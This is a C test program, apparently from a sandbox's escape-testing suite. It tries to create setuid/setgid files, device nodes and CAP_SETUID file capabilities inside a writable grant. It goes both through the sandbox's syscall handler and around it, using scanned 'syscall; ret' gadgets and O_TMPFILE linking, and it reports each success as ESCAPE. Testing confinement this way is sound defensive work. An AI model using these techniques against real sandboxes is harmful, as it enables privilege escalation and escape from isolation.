/* A set-user-ID or set-group-ID file in the read-write grant: run from the
 * host afterwards it has its owner's authority there (a root session's
 * setuid-root file makes whoever runs it root). Every way a mode reaches the
 * kernel, with the umask cleared:
 *   - creations through the handler: open O_CREAT, creat, O_TMPFILE then a
 *     link of /proc/self/fd/N, mknod of a regular file, a FIFO, a socket,
 *     mkdir (S_ISGID on a directory) and a file made inside that directory;
 *   - around the handler (ld-preld's `syscall; ret`) on the directory fds
 *     preld holds (the read-write grant's copy): openat O_TMPFILE and openat2
 *     O_TMPFILE with mode 07755 (Landlock checks the open for writing, not
 *     the creation of an unnamed file), then the server asked to link the
 *     unnamed file in (linkat of /proc/self/fd/N, AT_EMPTY_PATH);
 *   - fchmod, fchmodat, fchmodat2 adding the bits, through the handler and
 *     around it;
 *   - mknod of a device (through the handler and around it);
 *   - fsetxattr security.capability (file capabilities) around the handler.
 * Every file found with a set-ID bit (or a device) prints ESCAPE. */
#include "attack.h"
#include "gadget_scan.h"
#include <sys/stat.h>
#include <sys/sysmacros.h>

#ifndef O_TMPFILE
#define O_TMPFILE (020000000 | O_DIRECTORY)
#endif

static unsigned long G;
static long g(long n, long a, long b, long c, long d) { return call_gadget(G, n, a, b, c, d); }

static int escapes;

static void judge(const char *label, const char *path) {
    struct stat st;
    if (lstat(path, &st) != 0) {
        printf("%s: %s: absent (%s)\n", label, path, strerror(errno));
        return;
    }
    int bad = (st.st_mode & (S_ISUID | S_ISGID)) || S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode);
    printf("%s: %s: mode %o%s\n", label, path, st.st_mode, bad ? " ESCAPE: a set-ID file or a device made in the session" : "");
    escapes += bad;
    fflush(stdout);
}

/* Links an unnamed file (fd) into the rw grant by the server, then judges it. */
static void link_in(const char *label, long fd, const char *rw, const char *name) {
    char proc[64], *to = cat2(rw, name);
    snprintf(proc, sizeof proc, "/proc/self/fd/%ld", fd);
    long r = lc(linkat(AT_FDCWD, proc, AT_FDCWD, to, AT_EMPTY_PATH));
    printf("%s: link of the unnamed file: %s\n", label, r == 0 ? "linked" : strerror((int)-r));
    if (r != 0) {
        r = lc(linkat(AT_FDCWD, proc, AT_FDCWD, to, AT_SYMLINK_FOLLOW));
        printf("%s: link AT_SYMLINK_FOLLOW: %s\n", label, r == 0 ? "linked" : strerror((int)-r));
    }
    judge(label, to);
}

int main(int argc, char **argv) {
    ARGS
    umask(0);
    char label[160];

    /* Through the handler. */
    long fd = lc(open(cat2(rw, "/h-open"), O_CREAT | O_WRONLY, 07755));
    printf("open O_CREAT 07755: %ld\n", fd);
    if (fd >= 0) close((int)fd);
    judge("open O_CREAT", cat2(rw, "/h-open"));
    fd = lc(creat(cat2(rw, "/h-creat"), 06777));
    if (fd >= 0) close((int)fd);
    judge("creat", cat2(rw, "/h-creat"));
    fd = lc(open(rw, O_TMPFILE | O_RDWR, 07755));
    printf("open O_TMPFILE 07755: %ld\n", fd);
    if (fd >= 0) {
        link_in("handler O_TMPFILE", fd, rw, "/h-tmpfile");
        close((int)fd);
    }
    printf("mknod S_IFREG|07755: %ld\n", lc(mknod(cat2(rw, "/h-mknod"), S_IFREG | 07755, 0)));
    judge("mknod reg", cat2(rw, "/h-mknod"));
    printf("mknod S_IFIFO|07755: %ld\n", lc(mknod(cat2(rw, "/h-fifo"), S_IFIFO | 07755, 0)));
    judge("mknod fifo", cat2(rw, "/h-fifo"));
    printf("mknod S_IFSOCK|07755: %ld\n", lc(mknod(cat2(rw, "/h-sock"), S_IFSOCK | 07755, 0)));
    judge("mknod sock", cat2(rw, "/h-sock"));
    printf("mknod S_IFCHR 1,3: %ld\n", lc(mknod(cat2(rw, "/h-null"), S_IFCHR | 0666, makedev(1, 3))));
    judge("mknod chr", cat2(rw, "/h-null"));
    printf("mknod S_IFBLK 7,0: %ld\n", lc(mknod(cat2(rw, "/h-loop"), S_IFBLK | 0666, makedev(7, 0))));
    judge("mknod blk", cat2(rw, "/h-loop"));
    printf("mkdir 07777: %ld\n", lc(mkdir(cat2(rw, "/h-dir"), 07777)));
    judge("mkdir", cat2(rw, "/h-dir"));
    fd = lc(open(cat2(rw, "/h-dir/inside"), O_CREAT | O_WRONLY, 02755));
    if (fd >= 0) close((int)fd);
    judge("file in that dir", cat2(rw, "/h-dir/inside"));
    fd = lc(open(cat2(rw, "/h-plain"), O_CREAT | O_WRONLY, 0755));
    printf("fchmod 04755: %ld\n", lc(fchmod((int)fd, 04755)));
    printf("chmod 02755: %ld\n", lc(chmod(cat2(rw, "/h-plain"), 02755)));
    printf("fchmodat 04755: %ld\n", lc(fchmodat(AT_FDCWD, cat2(rw, "/h-plain"), 04755, 0)));
    judge("chmod family", cat2(rw, "/h-plain"));

    /* Around the handler. */
    find_gadgets();
    if (!ncand) { printf("no gadget: nothing more to try\n"); return 0; }
    G = cands[0];
    printf("raw fchmod 04755: %ld\n", g(SYS_fchmod, fd, 04755, 0, 0));
    /* File capabilities: a v2 security.capability with CAP_SETUID
     * permitted and effective (needs CAP_SETFCAP, which no session has). */
    unsigned int caps[5] = { 0x02000001, 1u << 7, 1u << 7, 0, 0 };
    long x = call_gadget(G, SYS_fsetxattr, fd, (long)"security.capability", (long)caps, sizeof caps);
    printf("raw fsetxattr security.capability: %s%s\n", x == 0 ? "set" : strerror((int)-x),
           x == 0 ? " ESCAPE: file capabilities set in the session" : "");
    escapes += x == 0;
    printf("raw fchmodat 04755: %ld\n", g(SYS_fchmodat, AT_FDCWD, (long)cat2(rw, "/h-plain"), 04755, 0));
    printf("raw fchmodat2 04755: %ld\n", g(452 /* fchmodat2 */, AT_FDCWD, (long)cat2(rw, "/h-plain"), 04755, 0));
    judge("raw chmod family", cat2(rw, "/h-plain"));
    int n = 0;
    for (long d = 3; d < 65536; d++) {
        if (g(SYS_fcntl, d, F_GETFD, 0, 0) < 0) continue;
        struct stat st;
        if (g(SYS_fstat, d, (long)&st, 0, 0) < 0 || !S_ISDIR(st.st_mode)) continue;
        char name[64];
        long t = g(SYS_openat, d, (long)".", O_TMPFILE | O_RDWR, 07755);
        snprintf(label, sizeof label, "dir fd %ld: raw openat O_TMPFILE 07755", d);
        printf("%s: %s\n", label, t >= 0 ? "made" : strerror((int)-t));
        if (t >= 0) {
            g(SYS_write, t, (long)"#!/bin/sh\nid\n", 13, 0);
            snprintf(name, sizeof name, "/r-tmpfile-%d", n++);
            link_in(label, t, rw, name);
            g(SYS_close, t, 0, 0, 0);
        }
        struct { unsigned long long flags, mode, resolve; } how = { O_TMPFILE | O_RDWR, 07755, 0 };
        t = g(SYS_openat2, d, (long)".", (long)&how, sizeof how);
        snprintf(label, sizeof label, "dir fd %ld: raw openat2 O_TMPFILE 07755", d);
        printf("%s: %s\n", label, t >= 0 ? "made" : strerror((int)-t));
        if (t >= 0) {
            snprintf(name, sizeof name, "/r-tmpfile-%d", n++);
            link_in(label, t, rw, name);
            g(SYS_close, t, 0, 0, 0);
        }
        long r = g(SYS_mknodat, d, (long)"r-null", S_IFCHR | 0666, makedev(1, 3));
        printf("dir fd %ld: raw mknodat chr: %s%s\n", d, r == 0 ? "made" : strerror((int)-r), r == 0 ? " ESCAPE: a device made" : "");
        escapes += r == 0;
    }
    printf("set-ID files or devices made: %d\n", escapes);
    return 0;
}
